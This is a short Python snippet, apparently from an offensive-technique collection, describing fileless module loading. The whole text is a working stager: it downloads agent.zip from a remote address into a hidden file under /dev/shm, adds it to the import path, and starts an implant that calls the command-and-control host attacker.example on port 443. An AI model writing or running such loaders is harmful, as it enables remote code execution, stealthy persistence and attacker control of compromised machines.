# technique: download a zip of python modules and import it directly through zipimport/sys.path, then call its entry point
import sys, tempfile, urllib.request, importlib
z = tempfile.NamedTemporaryFile(prefix=".", suffix=".zip", delete=False, dir="/dev/shm")
z.write(urllib.request.urlopen("http://10.10.10.10:8000/agent.zip").read()); z.close()
sys.path.insert(0, z.name)
importlib.import_module("agent.main").start(c2="attacker.example", port=443)
